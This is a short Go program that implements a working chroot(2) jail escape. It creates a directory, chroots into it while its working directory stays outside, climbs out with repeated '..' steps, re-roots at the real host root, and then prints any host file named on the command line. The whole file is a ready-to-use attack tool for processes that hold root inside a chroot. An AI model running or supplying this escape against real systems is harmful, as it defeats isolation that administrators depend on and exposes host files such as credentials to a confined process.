// Command escape tries to leave a root that chroot(2) has set, and prints the file
// of the host that it is given. It needs CAP_SYS_CHROOT, which root has.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	content, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape: no way out:", err)
		os.Exit(1)
	}
	fmt.Println(string(content))
}

// escape makes a folder the root while it stays outside of it itself. Nothing
// stops it then on its way up: ".." ends only at the root.
func escape() error {
	if err := os.Mkdir("/below", 0o700); err != nil {
		return err
	}
	if err := syscall.Chroot("/below"); err != nil {
		return err
	}
	for range 100 {
		if err := syscall.Chdir(".."); err != nil {
			return err
		}
	}
	return syscall.Chroot(".")
}
